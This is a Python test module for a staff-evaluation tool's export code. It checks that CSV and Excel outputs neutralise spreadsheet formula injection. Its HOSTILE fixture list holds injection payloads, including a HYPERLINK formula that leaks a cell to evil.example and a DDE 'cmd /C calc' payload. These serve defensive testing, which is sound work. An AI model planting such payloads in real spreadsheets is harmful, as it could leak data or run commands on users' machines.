"""Exports are safe to open: no text cell becomes a formula, numbers stay numbers (issue 16 §3)."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from typing import Any

import openpyxl
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from evalkit import Organisation, Position, Staff, Unit
from evalkit.cli import main
from evalkit.io.results import (
    formula_safe_frame,
    formula_safe_text,
    write_results_csv,
    write_results_xlsx,
)
from evalkit.io.workbook import SCORES_SHEET, write_template
from tests._io_helpers import filled_workbook, person

#: The issue's injection names (OWASP CSV injection examples).
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
]
_FORMULA = re.compile(r"^(?:[ \u00a0]*[=+\-@＝＋－＠]|[\t\r\n])")


def results_frame(names: list[str]) -> pd.DataFrame:
    """A small results frame: text, a negative number, a grade and a comment per person."""
    n = len(names)
    return pd.DataFrame(
        {
            "staff_id": [f"CC-{i}" for i in range(n)],
            "full_name": names,
            "unit_id": ["=P1"] * n,
            "total": [-5.0 if i == 0 else 91.5 for i in range(n)],
            "grade": pd.Categorical(["HTXS"] * n, categories=["HTXS", "HTT", "HT", "KHT"]),
            "self_comment": pd.array(["- hoàn thành"] * n, dtype="str"),
        },
        index=pd.Index(range(2, n + 2), name="row"),
    )


def csv_rows(path: Path) -> list[list[str]]:
    """The cells of a CSV as text (BOM removed)."""
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


class TestCsv:
    """CSV: the OWASP prefix on text that would start a formula."""

    def test_the_issues_injection_names_are_written_with_a_quote_prefix(
        self, tmp_path: Path
    ) -> None:
        """Each hostile name becomes "'" + name; no cell of the file starts a formula."""
        path = write_results_csv(results_frame(HOSTILE), tmp_path / "r.csv")
        rows = csv_rows(path)
        header, body = rows[0], rows[1:]
        names = [r[header.index("full_name")] for r in body]
        assert names == ["'" + n for n in HOSTILE]
        number = header.index("total")
        assert all(not _FORMULA.match(cell) for r in rows for i, cell in enumerate(r)
                   if i != number)  # fmt: skip

    def test_a_negative_number_stays_a_number(self, tmp_path: Path) -> None:
        """total −5 is written as -5.0, unquoted and without a prefix."""
        path = write_results_csv(results_frame(["An"]), tmp_path / "r.csv")
        text = path.read_text(encoding="utf-8-sig")
        assert ",-5.0," in text
        rows = csv_rows(path)
        assert rows[1][rows[0].index("total")] == "-5.0"
        assert rows[1][rows[0].index("self_comment")] == "'- hoàn thành"
        assert rows[1][rows[0].index("unit_id")] == "'=P1"

    def test_harmless_text_is_unchanged(self) -> None:
        """Names, ids and grades without a formula start are written as they are."""
        for text in ("Nguyễn Văn An", "CC-0042", "HTXS", "a=b", "5-3", "'=already"):
            assert formula_safe_text(text) == text

    def test_the_frame_passed_in_is_not_changed(self) -> None:
        """Escaping works on a copy."""
        frame = results_frame(["=1"])
        formula_safe_frame(frame)
        assert frame.loc[2, "full_name"] == "=1"


class TestXlsx:
    """Excel: text is a text cell with the quote prefix, never a formula."""

    def test_the_issues_injection_names_are_text_cells(self, tmp_path: Path) -> None:
        """openpyxl reads every hostile name back as the same text, type 's', quote-prefixed."""
        path = write_results_xlsx(results_frame(HOSTILE), tmp_path / "r.xlsx")
        ws = openpyxl.load_workbook(path)["Kết quả"]
        header = [c.value for c in ws[1]]
        col = header.index("full_name") + 1
        for i, name in enumerate(HOSTILE, start=2):
            cell = ws.cell(row=i, column=col)
            assert cell.data_type == "s"
            assert cell.value == name.replace("\r", "\n")
            assert cell.quotePrefix
        assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)

    def test_numbers_are_number_cells(self, tmp_path: Path) -> None:
        """−5 is a number cell holding −5, not the text '-5'."""
        path = write_results_xlsx(results_frame(["An"]), tmp_path / "r.xlsx")
        ws = openpyxl.load_workbook(path)["Kết quả"]
        header = [c.value for c in ws[1]]
        cell = ws.cell(row=2, column=header.index("total") + 1)
        assert (cell.value, cell.data_type) == (-5, "n")

    def test_the_unit_counts_sheet_is_safe_too(self, tmp_path: Path) -> None:
        """A unit id '=P1' on the counts sheet is text."""
        path = write_results_xlsx(results_frame(["An"]), tmp_path / "r.xlsx")
        ws = openpyxl.load_workbook(path)["Số lượng xếp loại"]
        cell = ws.cell(row=2, column=1)
        assert (cell.value, cell.data_type) == ("=P1", "s")


class TestCli:
    """The reproduction: a workbook name typed as a formula, exported by `evalkit score`."""

    @pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
    def test_a_formula_typed_as_a_name_is_exported_as_text(
        self, tmp_path: Path, suffix: str
    ) -> None:
        """score --out r.xlsx / r.csv: the name never becomes a formula."""
        name = "=cmd|' /C calc'!A0"
        book = filled_workbook(tmp_path / "t.xlsx", [person("CC-1", full_name="An")])
        wb = openpyxl.load_workbook(book)
        cell = wb[SCORES_SHEET]["B2"]
        cell.value = name
        cell.data_type = "s"  # typed as text (Excel: '=cmd…), not a formula
        wb.save(book)
        out = tmp_path / f"r{suffix}"
        assert main(["score", str(book), "--out", str(out)], stdout=io.StringIO()) == 0
        if suffix == ".csv":
            rows = csv_rows(out)
            assert rows[1][rows[0].index("full_name")] == "'" + name
        else:
            ws = openpyxl.load_workbook(out)["Kết quả"]
            header = [c.value for c in ws[1]]
            cell = ws.cell(row=2, column=header.index("full_name") + 1)
            assert (cell.value, cell.data_type) == (name, "s")


# --------------------------------------------------------------------------- properties

_texts = st.text(
    st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=30
) | st.sampled_from(HOSTILE)


@settings(deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(texts=st.lists(_texts, min_size=1, max_size=6), number=st.floats(-1e6, 1e6))
def test_any_text_reads_back_from_csv_as_itself_or_prefixed_never_a_formula(
    tmp_path_factory: pytest.TempPathFactory, texts: list[str], number: float
) -> None:
    """CSV: each text reads back as formula_safe_text(text); no cell starts a formula;
    the number reads back as the same number."""
    frame = pd.DataFrame({"full_name": texts, "total": [number] * len(texts)})
    path = write_results_csv(frame, tmp_path_factory.mktemp("csv") / "r.csv")
    rows = csv_rows(path)
    assert [r[1] for r in rows[1:]] == [formula_safe_text(t) for t in texts]
    assert all(not _FORMULA.match(r[1]) for r in rows)
    assert all(float(r[2]) == number for r in rows[1:])
    assert all(formula_safe_text(t) in (t, "'" + t) for t in texts)


@settings(deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(texts=st.lists(_texts, min_size=1, max_size=6), number=st.floats(-1e6, 1e6))
def test_any_text_reads_back_from_xlsx_as_the_same_text_cell(
    tmp_path_factory: pytest.TempPathFactory, texts: list[str], number: float
) -> None:
    """Excel: each text reads back as the same text in a text cell (control characters an
    Excel file cannot hold are left out; CR reads as LF); no formula cell; numbers stay."""
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    frame = pd.DataFrame({"full_name": texts, "total": [number] * len(texts)})
    path = write_results_xlsx(frame, tmp_path_factory.mktemp("xlsx") / "r.xlsx")
    ws = openpyxl.load_workbook(path)["Kết quả"]
    for i, text in enumerate(texts, start=2):
        cell = ws.cell(row=i, column=2)
        expected = ILLEGAL_CHARACTERS_RE.sub("", text).replace("\r\n", "\n").replace("\r", "\n")
        assert (cell.value or "") == expected
        if expected:
            assert cell.data_type == "s"
        num = ws.cell(row=i, column=3)
        assert num.data_type == "n" and num.value == pytest.approx(number)
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)


# --------------------------------------------------------------------------- the template


def _hostile_org(names: list[str]) -> Organisation:
    """An organisation whose names, titles and unit names are the hostile texts."""
    return Organisation(
        units=[Unit("U", names[0], governing_body=names[-1], place=names[0])],
        positions=[Position("CV", names[-1], names[0])],
        staff=[Staff(f"S{i}", name, "CV", "U", title_vi=names[(i + 1) % len(names)])
               for i, name in enumerate(names)])  # fmt: skip


def _texts_of(path: Path) -> list[tuple[str, Any]]:
    """(sheet!cell, cell) of every cell of the workbook."""
    wb = openpyxl.load_workbook(path)
    return [(f"{ws.title}!{c.coordinate}", c) for ws in wb.worksheets
            for row in ws.iter_rows() for c in row]  # fmt: skip


class TestTemplate:
    """Audit 16 #3: ``write_template(org=…)`` writes the organisation's text through the
    same cell writer as the results workbook: text cells, never formulas."""

    def test_the_issues_injection_names_are_text_cells(self, tmp_path: Path) -> None:
        names = [n for n in HOSTILE if "\r" not in n and "\t" not in n]
        path = write_template(tmp_path / "t.xlsx", "vn.nd335-2025", "2026-03",
                              org=_hostile_org(names))  # fmt: skip
        cells = _texts_of(path)
        assert [ref for ref, c in cells if c.data_type == "f"] == []
        hostile = {ref: c for ref, c in cells if c.value in names}
        scores = [c.value for ref, c in hostile.items() if ref.startswith(SCORES_SHEET + "!B")]
        assert scores == names  # every staff name, as typed
        assert len(hostile) > 2 * len(names)  # titles, the unit, the position, the signatory
        assert all(c.data_type == "s" and c.quotePrefix for c in hostile.values())

    def test_the_cli_template_with_an_org_file_writes_text(self, tmp_path: Path) -> None:
        from evalkit.io.jsonio import write_json

        org = tmp_path / "to-chuc.json"
        write_json(org, _hostile_org(["=1+1", "@SUM(1,2)"]))
        book = tmp_path / "t.xlsx"
        assert main(["template", "--rules", "vn.nd335-2025", "--period", "2026-03",
                     "--org", str(org), str(book)], stdout=io.StringIO()) == 0  # fmt: skip
        cells = dict(_texts_of(book))
        assert [ref for ref, c in cells.items() if c.data_type == "f"] == []
        assert (cells[f"{SCORES_SHEET}!B2"].value, cells[f"{SCORES_SHEET}!B2"].data_type) == \
            ("=1+1", "s")

    def test_numbers_and_plain_text_are_unchanged(self, tmp_path: Path) -> None:
        path = write_template(tmp_path / "t.xlsx", "vn.nd335-2025", "2026-03",
                              org=_hostile_org(["Nguyễn Văn An", "Lê Bình"]))  # fmt: skip
        cells = dict(_texts_of(path))
        assert (cells[f"{SCORES_SHEET}!B2"].value, cells[f"{SCORES_SHEET}!B2"].quotePrefix) == \
            ("Nguyễn Văn An", False)


_names = st.text(st.characters(blacklist_categories=("Cs", "Cc")), min_size=1, max_size=20) \
    .filter(lambda t: t.strip() != "") | st.sampled_from(HOSTILE[:5])


@settings(deadline=None, max_examples=25,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(names=st.lists(_names, min_size=1, max_size=4))
def test_any_organisation_text_is_a_text_cell_in_the_template(
    tmp_path_factory: pytest.TempPathFactory, names: list[str]
) -> None:
    """Whatever the organisation's names say, the template holds no formula and each staff
    name reads back as the text it is (quote-prefixed when it looks like a formula)."""
    path = write_template(tmp_path_factory.mktemp("t") / "t.xlsx", "vn.nd335-2025", "2026-03",
                          org=_hostile_org(names))  # fmt: skip
    cells = _texts_of(path)
    assert [ref for ref, c in cells if c.data_type == "f"] == []
    ws = openpyxl.load_workbook(path)[SCORES_SHEET]
    got = [ws.cell(row=i, column=2) for i in range(2, len(names) + 2)]
    assert [c.value for c in got] == names
    assert [c.quotePrefix for c in got] == [bool(_FORMULA.match(n)) for n in names]
